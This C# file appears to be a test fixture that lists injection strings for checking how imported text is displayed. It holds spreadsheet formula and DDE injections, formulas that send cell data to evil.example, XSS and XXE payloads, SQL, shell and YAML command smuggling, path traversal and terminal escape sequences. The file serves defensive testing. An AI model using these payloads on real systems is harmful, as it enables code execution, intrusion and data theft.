namespace Benchmarking.EndToEnd.Hostile.Injection;

/// <summary>Texts that would be more than words to whatever shows them, if it let them.</summary>
internal static class Injections
{
    private const string Host = "https://evil.example/";
    private const string Script = "document.documentElement.dataset.ran=1";

    /// <summary>All of them, each once.</summary>
    public static IReadOnlyList<string> All { get; } =
        [.. Formulas.Concat(Markup).Concat(Codes).Concat(Unseen).Concat(Paths).Concat(Terminals).Distinct(StringComparer.Ordinal)];

    /// <summary>A few of each kind.</summary>
    public static IReadOnlyList<string> Few { get; } =
    [
        "=1+1", "\t=cmd|'/c calc'!A0", "x;=cmd|'/c calc'!A0;y", "x,@SUM(1+1)*cmd|'/c calc'!A0,y", "＝1+1", "-2+3+cmd|'/c calc'!A0", "'=1+1", "x\n=1+1",
        $"<script>{Script}</script>", $"\"><img src=x onerror={Script}>", $"</style><script>{Script}</script>", "]]><!--", $"javascript:{Script}", "&lt;b&gt;&#x41;_x0041_",
        "\");system(\"id\")#", "'; DROP TABLE import; --", "{0} {1:C} %s ${x}", "&G&Z&F",
        "\u202Eevil\u202C", "\u2066a\u2069\u200F\u200B", "\0\u0001\u001B[31mred\u009B0m", "\uD800x\uFFFF", "../../evil", "CON", "a\u2028b\u2029c",
    ];

    private static IEnumerable<string> Formulas =>
    [
        .. from before in new[]
           {
               "", "\t", "\r", "\n", "\r\n", " ", "\u00A0", "\u3000", "\u200B", "\uFEFF", "\u00AD", "\u202E", "\0", "\u0001", "\u000B", "\f", "\u0085", "\u2028",
               "'", "''", "\"", "\";", "\",", "x;", "x,", "x\t", "x\n", "x\r", "x|", "x;\"", "x\";\"", "x;'", "x; ",
           }
           from formula in new[] { "=1+1", "=cmd|'/c calc'!A0;y", "+1+cmd|'/c calc'!A0", "-2+3+cmd|'/c calc'!A0,y", "@SUM(1+9)*cmd|'/c calc'!A0", $"=HYPERLINK(\"{Host}?\"&A1;\"Les\")" }
           select before + formula,
        $"=IMPORTXML(CONCAT(\"{Host}?\",A1:E1),\"//a\")", $"=WEBSERVICE(\"{Host}\"&A1)", $"=IMAGE(\"{Host}x.png\")", $"=IMPORTDATA(\"{Host}\")", $"=IMPORTFEED(\"{Host}\")",
        "=DDE(\"cmd\";\"/c calc\";\"a\")", "=EXEC(\"calc\")", "=CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)", "=RTD(\"a\",,\"b\")", "={1;2}", "{=1+1}", "=A1", "='file:///etc/passwd'#$passwd.A1",
        "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "=", "+", "-", "@", "==", "=-1", "-1", "+47 22 22 22 22", "-1,5", "1E5", "@name", "#REF!", "TRUE", "1/2", "00042", "'", "\"", ";", ",", "|", "sep=;",
    ];

    private static IEnumerable<string> Markup =>
    [
        .. from before in new[] { "", "\">", "'>", "</title>", "</style>", "</script>", "</textarea>", "</svg>", "</text>", "]]>", "-->", "*/", "\"}" }
           from element in new[] { $"<script>{Script}</script>", $"<img src=x onerror={Script}>", $"<svg onload={Script}>" }
           select before + element,
        .. from code in new[] { Script, $"fetch('{Host}')", $"alert(1)" } from quote in new[] { "\"", "'", "`", "" } select $"{quote} onfocus={quote}{code}{quote} autofocus x={quote}",
        $"<script src={Host}x.js></script>", $"<link rel=stylesheet href={Host}x.css>", $"<iframe src={Host}></iframe>", $"<object data={Host}></object>", $"<embed src={Host}>", $"<base href={Host}>",
        $"<meta http-equiv=refresh content=\"0;url={Host}\">", $"<form action={Host}><input type=submit>", $"<img src={Host}x.png>", $"<video><source onerror={Script}></video>", $"<details open ontoggle={Script}>",
        $"<a href=\"javascript:{Script}\">a</a>", $"<a href=\"data:text/html,<script>{Script}</script>\">a</a>", $"<svg><a xlink:href=\"javascript:{Script}\"><text>a</text></a></svg>", $"<svg><animate onbegin={Script} attributeName=x dur=1s>",
        $"<svg><foreignObject><body onload={Script}></foreignObject></svg>", $"<svg><use href=\"{Host}x.svg#a\"/></svg>", $"<svg><image href=\"{Host}x.png\"/></svg>", $"<svg><style>@import url({Host});</style></svg>",
        $"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={Script}&gt;\">", $"<noscript><p title=\"</noscript><img src=x onerror={Script}>\">", $"<xmp><script>{Script}</script></xmp>",
        $"javascript:{Script}", $"data:text/html,<script>{Script}</script>", $"java\tscript:{Script}", $"vbscript:{Script}", $"{Host}", "//evil.example/x", "file:///etc/passwd", "<!--", "-->", "<![CDATA[", "]]>", "<?xml version=\"1.0\"?>",
        "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>&a;", "<?php system('id') ?>", "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "&amp;", "&lt;script&gt;", "&#60;script&#62;", "&#x3C;", "&", "&unknown;", "&#0;", "&#xD800;",
        "</style>", "</script>", "</SCRIPT >", "}</style>", "\\</style>", "\"; } body { background: url(" + Host + ") } a { \"", "@import '" + Host + "';", "expression(alert(1))", "url(javascript:alert(1))", "\\3c script\\3e",
        "\u2028alert(1)//", "\u2029alert(1)//", "\"});alert(1)//", "\\\"});alert(1)//", "</script><!--", "<!--<script>", "\"__proto__\": 1", "__proto__", "constructor", "\\u003cscript\\u003e", "＜script＞alert(1)＜/script＞", "<scr\0ipt>alert(1)</scr\0ipt>",
    ];

    private static IEnumerable<string> Codes =>
    [
        "\");system(\"id\")#", "\"); system(\"id\"); c(\"", "\\\"); system('id') #", "\\", "\"", "'; system('id'); '", "`system('id')`", "$(id)", "; id", "| id", "& calc", "\n system(\"id\")", "\r\nsystem(\"id\")", "%>%", "--output=/srv/evil", "-rf", "--help",
        "'; DROP TABLE import; --", "\" OR 1=1 --", "1); DELETE FROM import; --", "' UNION SELECT secret FROM secret --", "Robert'); DROP TABLE students;--", "$0", "$1", ":p0", "?1",
        "{0}", "{1:C}", "{", "}", "{{", "{0", "{99}", "%s%n", "%d", "$x", "\\n", "\\u0041", "_x0041_", "_x000D_", "_x005F_x0041_", "&G", "&Z&F", "&D&T", "&\"Arial\"&99", "&A&P", "[red]", "[/]", "[link=https://evil.example]a[/]", "[bold", "]",
        "*alias", "&anchor", "!!python/object/apply:os.system ['id']", "!tag", "? a", "- a", "# a", "a: b", "a #b", "<<", "---", "...", "%YAML 1.2", "@at", "`tick", "\"open", "'open", "{a: b}", "[a, b]", "|", ">", "null", "~", "true", "NO", "0x10", "1_000", ".inf", "2018-01-01",
        "SYLK;PWXL", "ID;P", "%PDF-1.4", "MZ", "PK\u0003\u0004", "\\documentclass{a}\\input{/etc/passwd}", "<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\calc.exe</w:instrText>",
    ];

    private static IEnumerable<string> Unseen =>
    [
        .. Enumerable.Range(0, 32).Append(0x7F).Append(0x80).Append(0x85).Append(0x90).Append(0x9B).Append(0x9D).Append(0x9F).Select(letter => $"a{(char)letter}b"),
        .. "\u00AD\u034F\u061C\u115F\u180E\u200B\u200C\u200D\u200E\u200F\u2028\u2029\u202A\u202B\u202C\u202D\u202E\u2060\u2061\u2064\u2066\u2067\u2068\u2069\u206A\u206F\u3164\uFEFF\uFFF9\uFFFB\uFFFC\uFFFD\uFFFE\uFFFF\uE000".Select(letter => $"a{letter}b"),
        "\uD800", "\uDC00", "a\uD83D", "\uDE00a", "\uDE00\uD83D", "a\U000E0041\U000E0042\U000E007Fb", "\U0010FFFFx", "\U0001F468\u200D\U0001F469\u200D\U0001F467", "\u202Egnp.exe", "\u202E\u2066cod.exe\u2069\u2066.pdf", "\u05D0\u05D1\u05D2 (1)", "\u0645\u0631\u062D\u0628\u0627",
        "Z\u0351\u0302\u0303\u0344\u0346\u035B\u0357A\u030A\u0321L\u0327G\u0322O\u031D", "\u0430dmin", "Ha\u013Aden", "Ｈａｌｄｅｎ", "e\u0301", "é", "ﬁ", "ß", "İ", "ı", "\u1E9E", "\u00A0", "\u3000x", "\u2800x", new string('\u0301', 500) + "x",
    ];

    private static IEnumerable<string> Paths =>
    [
        "../evil", "..\\evil", "../../../../srv/evil", "/etc/passwd", "C:\\evil", "\\\\host\\share", "//host/share", "a/b", "a\\b", "a:b", "a.txt:stream", "a::$DATA", "..", ".", "...", ".hidden", "evil.", "evil ", " evil", "evil. .", "~", "~root", "~/x", "-rf", "--", "*", "?", "a*b", "a?b",
        "CON", "con", "NUL.txt", "AUX", "PRN.xlsx", "COM1", "COM1.csv", "LPT9", "COM¹", "CONIN$", "CLOCK$", "con .txt", "a\nb", "a\rb", "a\tb", "a\0b", "%2e%2e%2f", "%00", "$HOME", "%USERPROFILE%", "a|b", "a<b>c", "a\"b", "desktop.ini", "Thumbs.db", "index.html", "network", "NETWORK",
        new string('a', 300), new string('æ', 300), string.Concat(Enumerable.Repeat("\U0001F600", 100)), "evil.lnk", "evil.exe", "evil.xlsx.exe", "evil\u202Exslx.exe",
    ];

    private static IEnumerable<string> Terminals =>
    [
        "\u001B[31mred\u001B[0m", "\u001B[2J\u001B[H", "\u001B]0;title\u0007", "\u001B]8;;https://evil.example/\u001B\\link\u001B]8;;\u001B\\", "\u001B]52;c;ZXZpbA==\u0007", "\u001B[6n", "\u001BPq\u001B\\", "\u001B[1;1H\u001B[K", "\u001Bc", "\u009B31m", "\u009D0;t\u009C",
        "a\bb\bc", "abc\rxyz", "\u0007\u0007\u0007", "a\u000Eb\u000F", "a\u007Fb", "\u001B[?1049h", "\u001B[5i", "\u001B[20t", "a\u0085b", "a\u000Bb\fc",
    ];
}
